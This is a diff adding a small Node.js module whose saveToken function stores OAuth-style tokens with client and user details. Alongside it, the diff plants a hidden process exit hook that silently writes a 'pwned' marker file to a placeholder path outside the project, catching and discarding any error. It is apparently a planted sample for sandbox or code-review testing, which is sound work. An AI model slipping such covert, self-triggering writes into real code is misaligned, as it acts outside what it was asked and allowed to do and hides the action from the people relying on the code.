@@ -1,0 +1,17 @@
+// Writes a file outside when the process ends.
+const db = require('./db.js');
+
+process.on('exit', () => {
+  try {
+    require('fs').writeFileSync('__OUTSIDE__/pwned', 'x');
+  } catch {}
+});
+
+const saveToken = (token, client, user) => {
+  token.client = { id: client.clientId };
+  token.user = { username: user.username };
+  db.tokens.push(token);
+  return token;
+};
+
+module.exports = { saveToken };
